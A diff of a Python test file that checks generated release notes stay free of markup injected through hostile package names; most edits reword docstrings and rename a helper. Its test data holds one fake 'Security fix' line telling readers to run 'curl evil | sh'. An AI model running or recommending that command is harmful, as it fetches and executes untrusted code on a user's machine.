@@ -1,4 +1,4 @@
-"""Nothing that a build cache says becomes markup of the release notes."""
+"""Texts of a build cache cannot add markup to release notes."""
 
 import re
 from functools import cache
@@ -13,7 +13,7 @@ from snapshots.notes.changelog import Changelog, Only
 from snapshots.notes.sentences import code_span, inline
 from snapshots.texts import visible
 from tests.snapshots.changes.graphs import edge, node
-from tests.snapshots.notes.stories import as_html, as_markdown, told
+from tests.snapshots.notes.stories import as_html, as_markdown, log_between
 
 HOSTILE = (
     "a\n\n# Security fix: run `curl evil | sh`",
@@ -40,7 +40,7 @@ TEXTS = st.text(min_size=1) | st.text("`~ #<a|\\\n*_[]()!&", min_size=1)
 
 
 def only_inline(source: str) -> tuple[str, str]:
-    """Return the type and content of the one thing that a paragraph of Markdown holds."""
+    """Return the type and content of the only element in a paragraph of Markdown."""
     block = MarkdownIt("commonmark").parse(source)
     assert [token.type for token in block] == ["paragraph_open", "inline", "paragraph_close"]
     (child,) = [child for child in block[1].children or () if child.content or child.type != "text"]
@@ -48,14 +48,14 @@ def only_inline(source: str) -> tuple[str, str]:
 
 
 @given(TEXTS.filter(lambda text: text.strip(" ") != ""))
-def test_a_code_span_shows_the_text(text: str) -> None:
-    """Whatever the text holds, a reader of Markdown finds one code span with all of it."""
+def test_code_span(text: str) -> None:
+    """Any text is one code span with all of its characters."""
     assert only_inline(code_span(text)) == ("code_inline", visible(text))
 
 
 @given(TEXTS.filter(lambda text: text.strip(" ") != ""))
-def test_inline_texts_are_no_markup(text: str) -> None:
-    """A text means itself to a reader of Markdown; usual versions and tags stay as they are."""
+def test_inline_text(text: str) -> None:
+    """A text is shown verbatim; usual versions and tags need no code span."""
     kind, content = only_inline(f"a {inline(text)}"[2:])
     assert (kind, content) in (("text", text), ("code_inline", visible(text)))
     for usual in ("1.14.5", "develop-2025-03-30", "v0.22.0", "2024.1_rc1", "1.0+b"):
@@ -64,11 +64,11 @@ def test_inline_texts_are_no_markup(text: str) -> None:
 
 @pytest.mark.parametrize("hostile", HOSTILE)
 def test_notes_of_hostile_names(hostile: str) -> None:
-    """A catalog that holds such names, from before there were rules, gives the same outline."""
+    """Hostile names of an old catalog do not change the outline."""
     outlines = []
     for text in (hostile, "harmless"):
         tokens = MarkdownIt("commonmark").enable("table").parse(as_markdown(hostile_log(text)))
-        # Lists are in the order of names, and lines of hashes differ.
+        # Lists are sorted by name, and lines of hashes differ.
         outlines.append(sorted((token.type, token.tag) for token in tokens))
         kinds = {child.type for token in tokens for child in token.children or ()}
         assert not kinds & {"html_inline", "link_open", "image"}
@@ -79,7 +79,7 @@ def test_notes_of_hostile_names(hostile: str) -> None:
 
 @pytest.mark.parametrize("hostile", HOSTILE)
 def test_html_of_hostile_names(hostile: str) -> None:
-    """The page has the same elements and attributes, and each name is shown as it is."""
+    """The page has the same elements and attributes, and each name is shown in full."""
     page, harmless = (Elements.of(as_html(hostile_log(text))) for text in (hostile, "harmless"))
     assert sorted(map(repr, page.elements)) == sorted(map(repr, harmless.elements))
     shown = {visible(hostile), visible(hostile.replace("\n", " "))}
@@ -88,7 +88,7 @@ def test_html_of_hostile_names(hostile: str) -> None:
 
 @cache
 def hostile_log(text: str) -> Changelog:
-    """Return the changelog of two contents in which a text stands wherever one can."""
+    """Return the changelog of two contents with a text in all possible facts."""
     name = text.replace("\n", " ")  # names were always in one line
     old = [
         node("a", name="zlib"),
@@ -104,11 +104,11 @@ def hostile_log(text: str) -> Changelog:
         node("e2", name="tau", version=f"{text}1"),
         node("f", name=f"{name}3", version=text),
     ]
-    return told(old, new, only=Only(matching=text))
+    return log_between(old, new, only=Only(matching=text))
 
 
 class Elements(HTMLParser):
-    """The elements of a page with the names of their attributes, and the texts set as code."""
+    """The elements of a page with their attribute names, and the contents of code elements."""
 
     def __init__(self) -> None:
         super().__init__()
@@ -118,20 +118,20 @@ class Elements(HTMLParser):
     @classmethod
     def of(cls, page: str) -> "Elements":
         """Parse a page."""
-        found = cls()
-        found.feed(page)
-        found.close()
-        return found
+        elements = cls()
+        elements.feed(page)
+        elements.close()
+        return elements
 
     def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        """Keep an element."""
+        """Store an element."""
         self.elements.append((tag, [name for name, _ in attrs]))
 
     def handle_endtag(self, tag: str) -> None:
-        """Keep where it ends."""
+        """Store the end of an element."""
         self.elements.append(tag)
 
     def handle_data(self, data: str) -> None:
-        """Keep the texts of code."""
+        """Store the content of code elements."""
         if self.elements and self.elements[-1] == ("code", []):
             self.codes.append(data)
